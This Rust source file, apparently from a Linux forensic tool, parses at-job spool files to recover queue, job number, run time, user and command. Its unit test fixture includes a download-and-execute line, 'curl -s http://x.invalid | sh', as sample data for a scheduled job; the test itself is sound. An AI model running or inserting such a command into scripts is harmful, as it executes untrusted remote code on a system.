use crate::{lines, AtJob, CronJob, CronKind};
use foothold_core::Timestamp;

/// What an at spool file name says: queue, job number, run time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AtName {
    /// Queue letter.
    pub queue: char,
    /// Job number.
    pub job_number: u32,
    /// Run time, minutes since the Unix epoch.
    pub run_minutes: u64,
}

/// Decode an at spool file name: queue letter, 5 hex digits of job number, 8 hex digits of
/// minutes since the epoch (`a0000301a6e2c9c`-style, 14 characters).
///
/// ```
/// let n = foothold_linux::parse_at_name("a00003019bc3a4").unwrap();
/// assert_eq!((n.queue, n.job_number, n.run_minutes), ('a', 3, 0x019bc3a4));
/// assert!(foothold_linux::parse_at_name(".SEQ").is_none());
/// ```
pub fn parse_at_name(name: &str) -> Option<AtName> {
    if name.len() != 14 || !name.is_ascii() {
        return None;
    }
    let queue = name.chars().next()?;
    if !(queue.is_ascii_alphabetic() || queue == '=') {
        return None;
    }
    Some(AtName {
        queue,
        job_number: u32::from_str_radix(name.get(1..6)?, 16).ok()?,
        run_minutes: u64::from_str_radix(name.get(6..14)?, 16).ok()?,
    })
}

/// An at job from its spool file: schedule and queue from the name, user from
/// `# atrun uid=` (resolved by `user_of`), the command part of the script.
pub fn parse_at_job(
    name: &AtName,
    bytes: &[u8],
    user_of: &dyn Fn(u32) -> Option<String>,
) -> CronJob {
    let all = lines(bytes);
    let uid = all.iter().find_map(|(_, l)| {
        let rest = l.strip_prefix("# atrun uid=")?;
        rest.split_whitespace().next()?.parse::<u32>().ok()
    });
    // Modern at: `${SHELL:-/bin/sh} << 'marcinDELIMITER…'` … delimiter line.
    let heredoc = all
        .iter()
        .position(|(_, l)| l.contains("<< '") && l.starts_with("${SHELL"));
    let command: Vec<&str> = match heredoc {
        Some(i) => {
            let delim = all
                .get(i)
                .map_or("", |(_, l)| l.as_str())
                .rsplit("<< '")
                .next()
                .unwrap_or("")
                .trim_end_matches('\'')
                .to_string();
            all.get(i.saturating_add(1)..)
                .unwrap_or_default()
                .iter()
                .map(|(_, l)| l.as_str())
                .take_while(|l| *l != delim)
                .collect()
        }
        None => {
            // Older at: the command follows the `cd … || { … }` block.
            let start = all
                .iter()
                .rposition(|(_, l)| l.starts_with("cd ") || l == "}")
                .map_or(0, |i| i.saturating_add(1));
            all.get(start..)
                .unwrap_or_default()
                .iter()
                .map(|(_, l)| l.as_str())
                .filter(|l| !l.trim().is_empty())
                .collect()
        }
    };
    let secs = i64::try_from(name.run_minutes.saturating_mul(60)).unwrap_or(i64::MAX);
    let run_at = Timestamp::from_unix(secs, 0).to_string();
    let mut j = CronJob::new(
        CronKind::At,
        run_at.clone(),
        uid.and_then(user_of),
        command.join("\n"),
    );
    j.at = Some(AtJob {
        queue: name.queue,
        job_number: name.job_number,
        run_at,
        uid,
    });
    j
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn modern_at_script() {
        let script = b"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\ncd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER5c0f7e1a'\ncurl -s http://x.invalid | sh\necho done\nmarcinDELIMITER5c0f7e1a\n";
        let name = parse_at_name("a0000201b2e0c0").unwrap();
        let j = parse_at_job(&name, script, &|uid| {
            (uid == 1000).then(|| "alice".to_string())
        });
        assert_eq!(j.command, "curl -s http://x.invalid | sh\necho done");
        assert_eq!(j.user.as_deref(), Some("alice"));
        let at = j.at.unwrap();
        assert_eq!((at.queue, at.job_number, at.uid), ('a', 2, Some(1000)));
        // 0x01b2e0c0 minutes = 28500160 min = 1710009600 s = 2024-03-09T18:40:00Z
        assert_eq!(at.run_at, "2024-03-09T18:40:00Z");
    }
}
